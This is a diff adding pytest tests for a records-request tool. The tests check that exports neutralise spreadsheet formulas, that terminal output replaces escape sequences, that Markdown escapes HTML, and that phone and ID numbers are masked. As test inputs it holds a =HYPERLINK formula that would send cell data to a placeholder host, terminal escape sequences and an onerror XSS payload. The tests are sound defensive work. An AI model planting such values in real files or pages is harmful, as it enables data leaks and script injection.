@@ -1,0 +1,225 @@
+"""Issue 12: untrusted text stays text (spreadsheets, terminal, Markdown), personal numbers stay
+masked outside `show` and the ledger export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sqlite3
+import zipfile
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+
+from hunnan_gk.privacy import mask_in_text
+from hunnan_gk.safetext import from_csv_cell, to_csv_cell, visible
+from tests.catalogue_samples import HEAD, ITEM
+from tests.helpers import PHONE, VALID_ID, ok, ok_json, register
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?"&I2,"x")'
+FULL_WIDTH_PHONE = "１３８１２３４５６７８"
+HOSTILE = "\x1b]8;;http://example.invalid/\x07点我\x1b]8;;\x07\x1b[2J\x08\x9b31m"
+
+
+def new_database(cli, path: Path) -> None:
+    """An empty database at `path` for an import (`db init` where it exists)."""
+    cli("db", "init", "--db", path)
+
+
+def sheet_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as book:
+        return "".join(book.read(name).decode("utf-8") for name in book.namelist()
+                       if name.startswith("xl/worksheets/"))
+
+
+# --- 1. formulas never leave the tool ------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [
+    "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''=1", "'x", "x'", "", "普通文字", "'",
+])
+def test_the_csv_guard_gives_every_value_back(value):
+    guarded = to_csv_cell(value)
+    assert from_csv_cell(guarded) == value
+    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_formula_applicant_exports_as_text_and_imports_back_unchanged(cli, tmp_path, fmt):
+    register(cli, applicant=HYPERLINK, note="-2+3", content="@SUM(1)")
+    out = tmp_path / f"ledger.{fmt}"
+    ok(cli("ledger", "export", "-o", out))
+    if fmt == "xlsx":
+        xml = sheet_xml(out)
+        assert "<f>" not in xml and "HYPERLINK" in xml
+        from openpyxl import load_workbook
+
+        rows = list(load_workbook(out, read_only=True).worksheets[0].iter_rows(values_only=True))
+        header = rows[0]
+        assert rows[1][header.index("申请人")] == HYPERLINK
+        # the dates the tool writes are dates (Excel sorts and filters them), not text
+        assert rows[1][header.index("收到日期")] == datetime(2024, 4, 1)
+    else:
+        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+        header = rows[0]
+        assert rows[1][header.index("申请人")] == "'" + HYPERLINK
+        assert rows[1][header.index("备注")] == "'-2+3"
+    other = tmp_path / "other.db"
+    new_database(cli, other)
+    ok(cli("ledger", "import", out, "--db", other))
+    back = ok_json(cli("show", "2024-0001", "--json", "--db", other))
+    assert (back["applicant"], back["content"], back["note"]) == (HYPERLINK, "@SUM(1)", "-2+3")
+
+
+def test_overdue_csv_guards_formulas(cli):
+    register(cli, applicant=HYPERLINK)
+    out = ok(cli("report", "overdue", "--as-of", "2024-04-02", "--format", "csv")).stdout
+    assert f"'{HYPERLINK}".replace('"', '""') in out
+
+
+def test_catalogue_xlsx_writes_no_formula(cli, tmp_path):
+    source = tmp_path / "c.yaml"
+    source.write_text(HEAD + ITEM.replace("事项名称、办理条件、申请材料", "'=1+1'"), encoding="utf-8")
+    out = tmp_path / "c.xlsx"
+    ok(cli("catalog", "export", source, "-o", out))
+    xml = sheet_xml(out)
+    assert "<f>" not in xml and "=1+1" in xml
+
+
+# --- 2. the terminal shows text, not escape sequences -------------------------------------
+
+
+def plant(path: Path, **fields: str) -> None:
+    """Store text as an older version (or a hand edit) may have left it, past input checks."""
+    with sqlite3.connect(path) as conn:
+        for name, value in fields.items():
+            conn.execute(f"UPDATE requests SET {name} = ?", [value])
+
+
+def test_control_characters_are_shown_as_placeholders(cli, isolated):
+    register(cli)
+    plant(isolated / "gk.db", applicant=HOSTILE, content=HOSTILE, department=HOSTILE)
+    for args in (["list"], ["show", "2024-0001"], ["report", "overdue", "--as-of", "2024-04-02"],
+                 ["report", "overdue", "--as-of", "2024-04-02", "--format", "text"]):
+        out = ok(cli(*args)).stdout
+        assert "\x1b" not in out and "\x07" not in out and "\x08" not in out and "\x9b" not in out, args
+        assert "␛" in out, args
+    listed = ok(cli("list", "--json")).stdout
+    assert "\x9b" not in listed and json.loads(listed)[0]["applicant"] == HOSTILE
+
+
+def test_a_message_quoting_a_control_character_shows_it(cli):
+    register(cli)
+    result = cli("show", "2024-\x1b[31m1")
+    assert result.exit_code != 0 and "\x1b" not in result.stderr and "␛" in result.stderr
+
+
+def test_the_plain_mail_part_shows_placeholders():
+    from hunnan_gk import notify
+    from hunnan_gk.vocab import Light
+
+    item = {"number": "2024-0001", "applicant": HOSTILE, "department": HOSTILE, "light": "red",
+            "light_label": "红灯", "stage_label": "查找信息", "due": "2024-04-29",
+            "due_provisional": False, "remaining_workdays": -1, "seriously_overdue": False,
+            "paused": None, "watch": None, "review_limit": None, "content": HOSTILE,
+            "applicant_type_label": "自然人", "received": "2024-04-01"}
+    report = {"as_of": "2024-05-01", "yellow_days": 5, "requests": [item]}
+    mail = notify.compose(notify.Batch(HOSTILE, ["a@example.org"], [item]), report, Light.YELLOW)
+    for part in (mail.text, mail.subject):
+        assert "\x1b" not in part and "\x07" not in part and "\x9b" not in part
+        assert "␛" in part or "�" in part
+
+
+def test_visible_keeps_text_and_newlines():
+    assert visible("第一行\n第二行\t完") == "第一行\n第二行\t完"
+    assert visible("a\x1bb\x00c\x7fd\u202ee") == "a␛b␀c␡d�e"
+
+
+def test_catalogue_markdown_escapes_html(cli, tmp_path):
+    source = tmp_path / "c.yaml"
+    hostile = '"<img src=x onerror=alert(1)>"'
+    source.write_text(HEAD + ITEM.replace("事项名称、办理条件、申请材料", hostile), encoding="utf-8")
+    out = tmp_path / "c.md"
+    ok(cli("catalog", "export", source, "-o", out))
+    page = out.read_text(encoding="utf-8")
+    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
+
+
+# --- 3. personal data masked everywhere outside `show` and the ledger export ---------------
+
+
+@pytest.mark.parametrize("written, masked", [
+    (FULL_WIDTH_PHONE, "138****5678"),
+    ("138-1234-5678", "138****5678"),
+    ("138 1234 5678", "138****5678"),
+    ("１３８－１２３４－５６７８", "138****5678"),
+    ("１１０１０５１９４９１２３１００２Ｘ", "1101**********002X"),
+    ("110105 19491231 002X", "1101**********002X"),
+    ("110105491231002", "1101*******1002"),
+    ("13812345678@example.org", "138****5678@example.org"),
+])
+def test_every_digit_form_is_masked(written, masked):
+    assert mask_in_text(f"电话{written}。") == f"电话{masked}。"
+
+
+@pytest.mark.parametrize("text", [
+    "2024-04-01 2024-04-29 2024-05-01", "编号 2024-0001、2024-0002、2024-0003", "哈希 a13812345678b",
+    "金额 1234567 元",
+])
+def test_dates_codes_and_hashes_are_not_masked(text):
+    assert mask_in_text(text) == text
+
+
+def test_a_full_width_phone_is_masked_in_list_overdue_and_mail(cli):
+    from hunnan_gk import notify
+    from hunnan_gk.vocab import Light
+
+    register(cli, applicant=f"王{PHONE}", content=f"请回电{FULL_WIDTH_PHONE}", department=f"区局{VALID_ID}",
+             address=f"某路1号 {FULL_WIDTH_PHONE}", email=f"{PHONE}@example.org",
+             note=f"身份证{VALID_ID}")
+    outputs = [
+        ok(cli("list", "--json")).stdout,
+        ok(cli("list")).stdout,
+        *(ok(cli("report", "overdue", "--as-of", "2024-04-02", "--format", fmt)).stdout
+          for fmt in ("csv", "html", "json", "text")),
+        ok(cli("fee", "quote", "2024-0001", "--json")).stdout,
+        ok(cli("fee", "quote", "2024-0001")).stdout,
+    ]
+    report = ok_json(cli("report", "overdue", "--as-of", "2024-04-02", "--format", "json"))
+    items = notify.qualifying(report["requests"], Light.GREEN)
+    mail = notify.compose(notify.Batch(items[0]["department"], ["a@example.org"], items), report,
+                          Light.YELLOW)
+    outputs += [mail.text, mail.html, mail.subject]
+    for out in outputs:
+        assert FULL_WIDTH_PHONE not in out and PHONE not in out and VALID_ID not in out, out
+    assert "138****5678" in outputs[0] and "138****5678" in mail.text and "138****5678" in mail.html
+    shown = ok_json(cli("show", "2024-0001", "--json"))
+    assert shown["content"] == f"请回电{FULL_WIDTH_PHONE}" and shown["note"] == f"身份证{VALID_ID}"
+
+
+def test_error_messages_and_the_errors_file_are_masked(cli, tmp_path):
+    ledger = tmp_path / "old.csv"
+    ledger.write_text(
+        "收到日期,申请人,申请人类型,申请方式,申请内容\n"
+        f"2024-04-01,张三,自然人,{PHONE},某事项\n",  # a phone typed into the wrong column
+        encoding="utf-8",
+    )
+    result = cli("ledger", "import", ledger)
+    assert result.exit_code == 1
+    assert PHONE not in result.stderr and "138****5678" in result.stderr
+    errors = (tmp_path / "old.csv.errors.csv").read_text(encoding="utf-8-sig")
+    assert PHONE not in errors and "138****5678" in errors
+
+
+def test_show_and_ledger_export_say_they_hold_personal_data(cli):
+    for args in (["show", "--help"], ["ledger", "export", "--help"]):
+        assert "个人信息" in ok(cli(*args)).stdout
+
+
+def test_search_takes_percent_and_underscore_literally(cli):
+    register(cli, content="降低 50% 的费用")
+    register(cli, content="某某情况")
+    assert [r["number"] for r in ok_json(cli("list", "--search", "%", "--json"))] == ["2024-0001"]
+    assert ok_json(cli("list", "--search", "_", "--json")) == []
